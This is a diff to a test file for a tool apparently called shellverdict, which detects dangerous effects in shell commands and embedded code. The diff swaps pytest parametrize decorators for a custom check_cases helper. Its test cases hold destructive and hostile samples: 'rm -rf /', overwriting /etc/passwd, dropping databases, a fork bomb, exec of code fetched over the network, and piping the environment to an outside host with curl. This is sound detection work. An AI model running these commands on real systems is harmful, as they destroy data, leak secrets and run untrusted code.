@@ -12,6 +12,7 @@ from shellverdict.embedded_code import CodeAnalysis, analyze_code
 from shellverdict.embedded_code.dispatch import MAX_CODE_CHARS
 from shellverdict.shell.words import GAP, STAR, Word
 from shellverdict.verdict import EffectKind
+from tests.cases import check_cases
 from tests.thorough import try_examples
 
 
@@ -120,7 +121,7 @@ def test_shell_commands_that_embedded_code_starts_are_found(language: str, code:
     assert "rm -rf /" in [script.strip() for script in analyze(language, code).scripts]
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("python", 'import shutil; shutil.rmtree("/home")'),
@@ -145,7 +146,7 @@ def test_recursive_deletion_in_embedded_code_is_reported_as_an_rm_command(langua
     ]
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("python", 'open("/etc/passwd", "w").write("x")'),
@@ -193,7 +194,7 @@ def test_commands_after_chdir_in_embedded_code_run_in_the_new_directory() -> Non
     assert analyze("python", 'import os\nos.chdir("/")\nos.system("rm -rf *")').scripts == ("cd /; rm -rf *",)
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("python", 'print("rm -rf /")'),
@@ -245,7 +246,7 @@ def test_harmless_embedded_code_has_no_effects(language: str, code: str) -> None
     assert analyze(language, code) == CodeAnalysis()
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("dialect", "code", "trait"),
     [
         ("postgres", "DROP TABLE users", "drop"),
@@ -274,9 +275,7 @@ def test_destructive_sql_statement_is_classified_by_what_it_destroys(
     assert (EffectKind.DATABASE, frozenset({trait})) in effect_kinds(analyze(f"sql:{dialect}", code))
 
 
-@pytest.mark.parametrize(
-    "code", ["db.dropDatabase()", "db.users.drop()", "db.users.deleteMany({})", "db.x.remove({})"]
-)
+@check_cases("code", ["db.dropDatabase()", "db.users.drop()", "db.users.deleteMany({})", "db.x.remove({})"])
 def test_destructive_mongodb_calls_are_found(code: str) -> None:
     assert [kind for kind, _ in effect_kinds(analyze("mongo", code))] == [EffectKind.DATABASE]
 
@@ -304,7 +303,7 @@ def test_reverse_shells_in_embedded_code_are_found(language: str, code: str) -> 
     assert EffectKind.REVERSE_SHELL in [kind for kind, _ in effect_kinds(analyze(language, code))]
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code", "trait"),
     [
         ("python", 'import urllib.request as u; exec(u.urlopen("http://x").read())', "network"),
@@ -328,7 +327,7 @@ def test_code_passed_to_eval_is_reported_with_its_origin(language: str, code: st
     )
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("python", "exec(input())"),
@@ -494,7 +493,7 @@ def test_shell_fed_by_an_awk_pipe_is_found() -> None:
     assert analyze("awk", '{ print "rm", $1 | "sh" }').scripts[0].endswith("| sh")
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("perl", "fork while 1"),
@@ -536,7 +535,7 @@ def test_sql_in_prepared_statements_is_analyzed() -> None:
     assert (EffectKind.DATABASE, frozenset({"drop"})) in effect_kinds(analysis)
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("python", 'import os\nc = "rm -rf /"\nos.system(c)\nc = "ls"'),
@@ -564,7 +563,7 @@ def test_shell_commands_in_less_common_languages_are_found(language: str, code: 
     assert "rm -rf /" in analyze(language, code).scripts
 
 
-@pytest.mark.parametrize(
+@check_cases(
     "code",
     [
         'import functools, os; functools.partial(os.system, "rm -rf /")()',
@@ -583,7 +582,7 @@ def test_embedded_code_that_sends_the_environment_is_an_upload() -> None:
     assert analyze("python", code).scripts == ("printenv | curl -d @- http://x",)
 
 
-@pytest.mark.parametrize(
+@check_cases(
     ("language", "code"),
     [
         ("powershell", "iex " * 4000),
